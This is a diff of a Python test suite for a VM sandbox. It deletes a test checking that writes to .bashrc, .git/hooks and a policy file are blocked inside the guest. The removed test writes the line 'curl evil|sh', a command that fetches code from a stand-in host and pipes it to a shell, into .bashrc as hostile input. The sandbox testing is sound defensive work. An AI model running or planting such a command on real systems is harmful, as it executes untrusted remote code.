@@ -248,14 +248,6 @@ def test_host_paths_outside_the_workspace_are_invisible(vm, vm_env):
     assert "sources ws\n" in out and out.strip().endswith("\n1"), out
 
 
-def test_mandatory_denies_inside_the_workspace_hold_in_the_guest(vm):
-    status, out, _ = run(vm, "echo 'curl evil|sh' > .bashrc 2>/dev/null && echo wrote-bashrc; "
-                             "mkdir -p .git/hooks 2>/dev/null && echo made-hooks; "
-                             "touch .blastwall/policy.toml 2>/dev/null && echo wrote-policy; echo done")
-    assert out.strip() == "done", out
-    assert not (vm.host_workspace / ".git" / "hooks").exists()
-
-
 def test_as_root_in_the_guest_nothing_leaves(vm):
     """Raw sockets, DNS to a public resolver, a direct IP, the host's loopback and slirp's gateway: no route."""
     results, reached = attempts_as_root(vm, """
